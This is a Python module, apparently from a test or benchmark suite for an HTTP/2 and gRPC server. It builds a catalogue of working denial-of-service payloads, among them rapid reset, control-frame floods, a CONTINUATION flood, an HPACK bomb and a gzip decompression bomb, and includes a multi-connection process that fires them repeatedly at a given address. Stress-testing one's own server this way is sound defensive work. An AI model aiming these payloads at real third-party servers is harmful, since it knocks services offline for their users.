"""What attackers send over HTTP/2, and the process that sends it."""

import multiprocessing
import select
import socket
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from typing import Any

from bench.clients.requests import GRPC_PATH, PATH, request_body
from services.http.h2.settings import INITIAL_WINDOW_SIZE
from services.http.h2.wire.fields import encode_fields, literal
from services.http.h2.wire.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    ErrorCode,
    frame,
    rst_stream,
    window_update,
)

STREAMS = 1_000
FRAMES = 20_000
RECEIVE_BYTES = 1 << 16
SEND_BYTES = 1 << 18
TICK_S = 0.05
LONG_TOKENS = 100_000
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_IDS = range(1, 2 * STREAMS, 2)


def _window(size: int) -> bytes:
    return frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + size.to_bytes(4, "big"))


def _block(path: str, method: str = "POST", **headers: str) -> bytes:
    fields = {":method": method, ":scheme": "http", ":path": path, ":authority": "localhost"}
    return encode_fields([*fields.items(), *((name.replace("_", "-"), value) for name, value in headers.items())])


def _get(stream_id: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)


def _post(stream_id: int, body: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream_id, _block(PATH)) + frame(DATA, END_STREAM, stream_id, body)


def _rpc(stream_id: int, path: str, **headers: str) -> bytes:
    return frame(HEADERS, END_HEADERS, stream_id, _block(path, content_type="application/grpc", **headers))


def _gets(more: bytes, path: str = "/unknown") -> bytes:
    return b"".join([_get(one, _block(path, "GET") + more) for one in _IDS])


def _open_body(content: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, _block(PATH)) + content


def _gigabyte() -> bytes:
    """A gzip of a gibibyte of zeros, without its checksum, which nobody reads so far."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    packed = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packed + (again.compress(bytes(1 << 24)) + again.flush(zlib.Z_FULL_FLUSH)) * 63


def _compressed(head: bytes, prefix: bytes) -> bytes:
    content = prefix + _gigabyte()
    pieces = [content[at : at + 16_384] for at in range(0, len(content), 16_384)]
    return head + b"".join([frame(DATA, 0, 1, piece) for piece in pieces]) + frame(DATA, END_STREAM, 1)


def _resets() -> bytes:
    body = request_body(LONG_TOKENS)
    return b"".join([_post(one, body) + rst_stream(one, ErrorCode.CANCEL) for one in range(1, 6 * STREAMS, 2)])


def _many_streams() -> bytes:
    body = request_body(LONG_TOKENS)
    return b"".join([_post(one, body) for one in _IDS])


_STORED = b"\x40" + literal(b"x", b"y" * 3_900)[1:]
_DISTINCT = b"".join([literal(b"%x" % number, b"") for number in range(1_200)])

ATTACKS: Mapping[str, Callable[[], bytes]] = {
    "rapid reset": _resets,
    "PING": lambda: frame(PING, 0, 0, bytes(8)) * FRAMES,
    "SETTINGS": lambda: _window(1) * FRAMES,
    "WINDOW_UPDATE": lambda: window_update(0, 1) * FRAMES,
    "PRIORITY": lambda: frame(PRIORITY, 0, 3, bytes(5)) * FRAMES,
    "unknown frames": lambda: frame(0x42, 0, 0) * FRAMES,
    "empty DATA": lambda: _open_body(frame(DATA, 0, 1) * FRAMES),
    "small DATA": lambda: _open_body(frame(DATA, 0, 1, b" ") * (2 * FRAMES)),
    "CONTINUATION": lambda: frame(HEADERS, 0, 1, _block("/")) + frame(CONTINUATION, 0, 1, b"\x90" * 900) * 40,
    "HPACK bomb": lambda: _get(1, _block("/") + _STORED + b"\xbe" * 12_000),
    "many fields": lambda: _gets(b"\x90" * 900),
    "many names": lambda: _gets(_DISTINCT),
    "Huffman": lambda: _gets(b"\0\x01x\xff\x80\x7d" + b"\x2a" * 16_000),
    "requests": lambda: _gets(b""),
    "health checks": lambda: _gets(b"", "/live"),
    "windows of zero": lambda: _window(0) + _many_streams(),
    "windows changed": lambda: _many_streams() + (_window(1) + _window(2)) * 200,
    "streams left": _many_streams,
    "empty messages": lambda: _rpc(1, REFLECTION) + frame(DATA, 0, 1, bytes(5) * 3_276) * 15,
    "incomplete messages": lambda: b"".join(
        [_rpc(one, REFLECTION) + frame(DATA, 0, one, b"\0\0\xff\xff\xff" + bytes(16_000)) * 15 for one in _IDS[:64]]
    ),
    "compressed body": lambda: _compressed(
        frame(HEADERS, END_HEADERS, 1, _block(PATH, content_encoding="gzip")), prefix=b""
    ),
    "compressed message": lambda: _compressed(
        _rpc(1, GRPC_PATH, grpc_encoding="gzip"), prefix=b"\1" + (1 << 20).to_bytes(4, "big")
    ),
}


class _Attacker:
    """One connection that sends all of it, again and again, each time on a new socket once the server ends it.

    Where the server waits for more, or the windows do not take it all, the connection is left after LEFT_S.
    """

    LEFT_S = 0.5

    def __init__(
        self, address: tuple[str, int], data: bytes, epoll: select.epoll, socks: "dict[int, _Attacker]"
    ) -> None:
        self._address = address
        self._data = PREFACE + frame(SETTINGS, 0, 0) + data
        self._epoll = epoll
        self._socks = socks
        self.rounds = 0
        self.connect()

    def connect(self) -> None:
        self._sock = socket.create_connection(self._address)
        self._sock.setblocking(False)
        self._sent, self._began = 0, time.monotonic()
        self._socks[self._sock.fileno()] = self
        self._epoll.register(self._sock, select.EPOLLIN | select.EPOLLOUT)

    def on_event(self, events: int) -> None:
        try:
            if events & select.EPOLLIN and not self._sock.recv(RECEIVE_BYTES):
                raise ConnectionResetError
            if events & select.EPOLLOUT:
                self._sent += self._sock.send(self._data[self._sent : self._sent + SEND_BYTES])
                if self._sent == len(self._data):
                    self._epoll.modify(self._sock, select.EPOLLIN)
        except BlockingIOError:
            return
        except OSError:
            self._again()

    def look(self) -> None:
        if time.monotonic() > self._began + self.LEFT_S:
            self._again()

    def _again(self) -> None:
        self.rounds += 1
        del self._socks[self._sock.fileno()]
        with suppress(OSError):
            self._epoll.unregister(self._sock)
        self._sock.close()
        self.connect()


def _attack(address: str, name: str, connections: int, pipe: Any) -> None:
    """The body of the process. Ends when it is told to, and says how often a connection was used up."""
    host, _, port = address.rpartition(":")
    data, socks = ATTACKS[name](), dict[int, _Attacker]()
    with select.epoll() as epoll:
        attackers = [_Attacker((host, int(port)), data, epoll, socks) for _ in range(connections)]
        pipe.send(None)
        while not pipe.poll():
            for fd, events in epoll.poll(TICK_S):
                if (attacker := socks.get(fd)) is not None:
                    attacker.on_event(events)
            for attacker in attackers:
                attacker.look()
    pipe.send(sum([one.rounds for one in attackers]))


@contextmanager
def attacking(address: str, name: str, connections: int) -> Iterator[dict[str, int]]:
    """Attack while the context is open; the yielded dict then says how many connections were used up."""
    context = multiprocessing.get_context("spawn")
    ours, theirs = context.Pipe()
    process = context.Process(target=_attack, args=(address, name, connections, theirs), daemon=True)
    process.start()
    theirs.close()
    ours.recv()  # Raises EOFError if the process has failed; its traceback is on standard error.
    figures: dict[str, int] = {}
    try:
        yield figures
    finally:
        ours.send(None)
        figures["rounds"] = ours.recv()
        process.join()
